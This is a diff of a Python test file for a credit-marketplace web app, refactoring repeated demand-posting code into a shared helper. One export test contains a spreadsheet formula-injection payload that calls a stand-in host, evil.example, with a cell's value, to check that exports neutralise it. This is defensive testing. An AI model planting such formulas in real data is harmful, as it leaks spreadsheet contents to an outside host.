@@ -9,6 +9,7 @@ import csv
 import io
 import re
 from collections.abc import Callable
+from typing import Any
 
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
@@ -16,7 +17,7 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from creditbridge.access.service.users import actor_for_user
-from creditbridge.core.actors import Role
+from creditbridge.core.actors import Actor, Role
 from creditbridge.marketplace import service
 from creditbridge.marketplace.domain import WAN_FEN
 from creditbridge.marketplace.models import Application, Demand, Loan, Notification, Repayment
@@ -39,18 +40,23 @@ def _post(client: TestClient, url: str, csrf: str, **data: str) -> str:
     return response.headers["location"]
 
 
+def _demand(session: Session, actor: Actor, **kw: Any) -> Demand:
+    """A demand posted through the service: 50 万元 for 12 months on credit, but for ``kw``."""
+    values: dict[str, Any] = {
+        "amount_fen": 50 * WAN_FEN,
+        "term_months": 12,
+        "purpose": "采购原材料",
+        "security_types": ["credit"],
+        **kw,
+    }
+    return service.post_demand(session, actor, **values)
+
+
 def _applied(client: TestClient, session: Session, market: Market, login_as: Login) -> Application:
     """An enterprise logged in through the pages with a demand and an application to the bank's
     credit product, made the way the pages make it (consent ticked)."""
     owner = login_as(Role.ENTERPRISE_USER)
-    demand = service.post_demand(
-        session,
-        actor_for_user(owner.user),
-        amount_fen=50 * WAN_FEN,
-        term_months=12,
-        purpose="采购原材料",
-        security_types=["credit"],
-    )
+    demand = _demand(session, actor_for_user(owner.user))
     _post(
         client,
         f"/market/demands/{demand.id}/apply/{market.credit_product.id}",
@@ -229,14 +235,7 @@ def test_applying_shows_the_consent_and_needs_it_ticked(
     client: TestClient, session: Session, market: Market, login_as: Login
 ) -> None:
     owner = login_as(Role.ENTERPRISE_USER)
-    demand = service.post_demand(
-        session,
-        actor_for_user(owner.user),
-        amount_fen=50 * WAN_FEN,
-        term_months=12,
-        purpose="采购原材料",
-        security_types=["credit"],
-    )
+    demand = _demand(session, actor_for_user(owner.user))
     url = f"/market/demands/{demand.id}/apply/{market.credit_product.id}"
     assert f'href="{url}"' in client.get(f"/market/demands/{demand.id}").text
     page = client.get(url)
@@ -286,14 +285,7 @@ def test_the_enterprise_sees_lent_and_not_the_banks_deadline(
 ) -> None:
     owner = login_as(Role.ENTERPRISE_USER)
     actor = actor_for_user(owner.user)
-    demand = service.post_demand(
-        session,
-        actor,
-        amount_fen=50 * WAN_FEN,
-        term_months=12,
-        purpose="采购原材料",
-        security_types=["credit"],
-    )
+    demand = _demand(session, actor)
     application = service.apply(
         session, actor, demand_id=demand.id, product_id=market.credit_product.id
     )
@@ -337,30 +329,16 @@ def test_the_enterprise_sees_lent_and_not_the_banks_deadline(
 # --- Lists that work -------------------------------------------------------------------------
 
 
-def _pool_demand(session: Session, market: Market, **kw: object) -> Demand:
-    values: dict[str, object] = {
-        "amount_fen": 50 * WAN_FEN,
-        "term_months": 12,
-        "purpose": "抢单池测试",
-        "security_types": ["credit"],
-        "mode": "pool",
-    }
-    values.update(kw)
-    return service.post_demand(session, market.owner, **values)  # type: ignore[arg-type]
+def _pool_demand(session: Session, market: Market, **kw: Any) -> Demand:
+    return _demand(session, market.owner, **{"purpose": "抢单池测试", "mode": "pool", **kw})
 
 
 def test_the_open_pool_shows_region_industry_and_grade_and_filters_on_them(
     client: TestClient, session: Session, market: Market, login_as: Login
 ) -> None:
     hefei = _pool_demand(session, market)
-    wuhu = service.post_demand(
-        session,
-        market.other_owner,
-        amount_fen=300 * WAN_FEN,
-        term_months=12,
-        purpose="芜湖需求",
-        security_types=["credit"],
-        mode="pool",
+    wuhu = _demand(
+        session, market.other_owner, amount_fen=300 * WAN_FEN, purpose="芜湖需求", mode="pool"
     )
     login_as(Role.INSTITUTION_OFFICER, institution_id=market.bank.id)
     page = client.get("/market/pool")
@@ -442,14 +420,7 @@ def _lent_to_logged_in_enterprise(
 ) -> Loan:
     """A loan of the bank to the enterprise now logged in, made through the services."""
     owner = actor_for_user(login_as(Role.ENTERPRISE_USER).user)
-    demand = service.post_demand(
-        session,
-        owner,
-        amount_fen=50 * WAN_FEN,
-        term_months=12,
-        purpose="采购原材料",
-        security_types=["credit"],
-    )
+    demand = _demand(session, owner)
     app_ = service.apply(session, owner, demand_id=demand.id, product_id=market.credit_product.id)
     service.accept(session, market.officer, application_id=app_.id)
     service.start_review(session, market.officer, application_id=app_.id)
@@ -535,14 +506,7 @@ def test_list_exports_carry_no_live_formula(
 ) -> None:
     owner = login_as(Role.ENTERPRISE_USER)
     evil = '=HYPERLINK("http://evil.example/?x="&B2,"打开")'
-    service.post_demand(
-        session,
-        actor_for_user(owner.user),
-        amount_fen=50 * WAN_FEN,
-        term_months=12,
-        purpose=evil,
-        security_types=["credit"],
-    )
+    _demand(session, actor_for_user(owner.user), purpose=evil)
     as_csv = client.get("/market/demands/export", params={"format": "csv"})
     fields = [f for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for f in row]
     assert "'" + evil in fields
